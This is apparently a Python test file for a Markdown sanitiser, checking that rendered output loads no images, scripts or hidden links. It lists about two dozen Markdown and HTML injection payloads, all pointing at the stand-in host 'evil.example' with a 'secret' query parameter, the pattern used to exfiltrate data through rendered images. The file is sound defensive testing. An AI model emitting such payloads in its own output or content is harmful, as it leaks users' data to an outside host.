"""What is handed out as Markdown, rendered by a viewer that allows everything: nothing loads, no link hides its address."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from text.markdown import inert

EVIL = "http://evil.example/?d=secret"
BAD = [
    f"![x]({EVIL})", f"![x](<{EVIL}>)", f"![x]( {EVIL} 'title')", f"![x][r]\n\n[r]: {EVIL}", f"> ![x][r]\n>\n> [r]: {EVIL}",
    f"<img src='{EVIL}'>", f"<IMG SRC={EVIL}>", f"text <script src='{EVIL}'></script>", f"[open]({EVIL})", f"[![x]({EVIL})]({EVIL})",
    f"[open][r]\n\n   [r]: {EVIL}", f"a ``` ![x]({EVIL})\n", f"    code\n\n![x]({EVIL})", f"```\ncode\n```\n![x]({EVIL})",
    f"- ```\n  code\n\n![x]({EVIL})", f"~~~\ncode\n```\n~~~\n![x]({EVIL})", f"<div>\n```\n</div>\n![x]({EVIL})", f"\\\\![x]({EVIL})",
    f"![x\ny]({EVIL})", f"![x](\n{EVIL})", f"![a ![b]({EVIL})]({EVIL})", f"<!-- x --> ![x]({EVIL})", f"<svg><image href='{EVIL}'/></svg>",
]  # fmt: skip
_LOADED = re.compile(r"<(?:img|script|svg|image|iframe|link|a|object|embed)\b", re.I)


@pytest.mark.parametrize("bad", BAD)
def test_nothing_is_loaded_or_hidden(bad: str) -> None:
    viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    assert not _LOADED.search(viewer.render(inert(bad)))


def test_they_would_be_otherwise() -> None:
    viewer = MarkdownIt("commonmark", {"html": True})
    assert sum(bool(_LOADED.search(viewer.render(b))) for b in BAD) >= 18


def test_what_is_harmless_stays() -> None:
    text = "# Title\n\n- **ninety days** [1], 3 < 4, a <b\n\n```html\n<img src=x> ![a](b)\n```\n\n[site](https://known.example/a)\n"
    kept = inert(text, lambda address: address == "https://known.example/a")
    assert kept == text.replace("a <b", "a &lt;b")


@given(st.text(alphabet="![]()<>`~\\ \n:x/'&;-*", max_size=60))
def test_no_text_loads_anything(text: str) -> None:
    viewer = MarkdownIt("commonmark", {"html": True})
    assert "<img" not in viewer.render(inert(text))
